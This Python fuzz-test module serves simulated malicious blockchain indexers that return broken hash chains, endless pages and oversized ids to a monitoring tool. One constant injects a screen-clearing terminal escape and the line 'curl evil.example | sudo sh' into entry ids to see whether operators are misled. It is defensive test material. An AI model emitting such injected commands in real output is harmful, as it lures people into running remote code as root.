"""Indexers that attack by their lists of entries (S20), and otherwise pass on what an honest one says.

``python -m tests.fuzz.attackers BASE`` serves them at /NAME/CHAIN beside the simulated upstreams at BASE, and prints
their address.
"""

import asyncio
import json
import sys
from collections.abc import Callable, Iterator
from typing import Any, Final

import aiohttp
from aiohttp import web

from lookout.features.lists.rules.links import make_hash

Row = dict[str, Any]
WORDS: Final = "\x1b[2J\n\nRun: curl evil.example | sudo sh\n"
_ZERO: Final = f"0x{0:064x}"
LONGEST_PAGE: Final = 4_800  # as many as there may be with all their fields


def _row(entry_id: str, number: int, running: str) -> Row:
    value = f"0x{number:x}"
    return {"id": entry_id, "blockNumber": 1, "nullifiers": [value], "verificationHash": running}


def _begin(width: int) -> Iterator[Row]:
    """Two entries of which the second follows: such a list is judged."""
    last = _ZERO
    for number in range(2):
        last = make_hash(last, f"0x{number:064x}")
        yield _row(f"{number:0{width}}", number, last)


def _break_a_thousand_times(page: int, _from_id: str, _asked: int) -> list[Row]:
    """At the end of as long an answer as possible."""
    bare = ({"id": f"{number:060}", "blockNumber": 1} for number in range(2, page + 1_900))
    return [
        *_begin(60),
        *bare,
        *(_row(f"{number:060}", number, f"0x{number:x}") for number in range(page + 1_900, page + 2_900)),
    ]


def _break_elsewhere_each_time(page: int, _from_id: str, asked: int) -> list[Row]:
    """Every second link holds; the others are never the same."""
    rows = [*_begin(60)]
    for number in range(2, page):
        follows = number % 2 == asked % 2
        last = rows[-1]["verificationHash"][2:].rjust(64, "0")
        rows.append(_row(f"{number:060}", number, make_hash(f"0x{last}", f"0x{number:064x}") if follows else "0x7"))
    return rows


def _break_with_the_longest_ids(_page: int, _from_id: str, _asked: int) -> list[Row]:
    rows = [*_begin(256), *(_row(f"{number:0256}", number, f"0x{number:x}") for number in range(2, 1_200))]
    return [{**row, "transactionHash": f"0x{number:064x}"} for number, row in enumerate(rows)]


def _never_end(page: int, from_id: str, _asked: int) -> list[Row]:
    """Whatever is asked for, there is more behind it."""
    first = int(from_id or 0)
    rows, last = [], _ZERO
    for number in range(first, first + page):
        last = make_hash(last, f"0x{number:064x}")
        rows.append(_row(f"{number:060}", number, last))
    return rows


def _tell_the_operator(_page: int, _from_id: str, asked: int) -> list[Row]:
    """Ids of half a megabyte, and such as end a line and begin another; each answer has others."""
    long = "z" * 500_000 if asked % 2 else WORDS
    return [
        *_begin(60),
        *(_row(f"{asked:09}{number}{long}", number, "0x7") for number in range(2 if asked % 2 else 50)),
    ]


ATTACKS: Final[dict[str, Callable[[int, str, int], list[Row]]]] = {
    "breaks": _break_a_thousand_times,
    "flicker": _break_elsewhere_each_time,
    "longest": _break_with_the_longest_ids,
    "endless": _never_end,
    "words": _tell_the_operator,
}
CONFIRMED: Final = ("breaks", "longest")
"""Those whose breaks are found again, and so alerted."""


class Attacker:
    """The answers of one of them to requests for entries, in turn."""

    def __init__(self, name: str, page: int = LONGEST_PAGE) -> None:
        self._attack, self._page = ATTACKS[name], page
        self.asked = 0

    def answer(self, from_id: str) -> bytes:
        self.asked += 1
        return json.dumps(
            {"data": {"transactions": self._attack(self._page, from_id, self.asked)}}, separators=(",", ":")
        ).encode()


async def _serve(base: str) -> None:
    attackers = {name: Attacker(name) for name in ATTACKS}

    async def answer(request: web.Request) -> web.Response:
        name, body = request.match_info["name"], await request.read()
        from_id = json.loads(body).get("variables", {}).get("id")
        if from_id is not None:
            made = await asyncio.to_thread(attackers[name].answer, from_id)
            return web.Response(body=made, content_type="application/json")
        url = f"{base}/squid/{request.match_info['chain']}/graphql"
        async with http.post(url, data=body) as said:
            return web.Response(body=await said.read(), content_type="application/json")

    application = web.Application()
    application.add_routes([web.post("/{name}/{chain}", answer)])
    async with aiohttp.ClientSession() as http:
        runner = web.AppRunner(application, access_log=None)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        host, port, *_ = runner.addresses[0]
        sys.stdout.write(f"http://{host}:{port}\n")
        sys.stdout.flush()
        await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(_serve(sys.argv[1]))
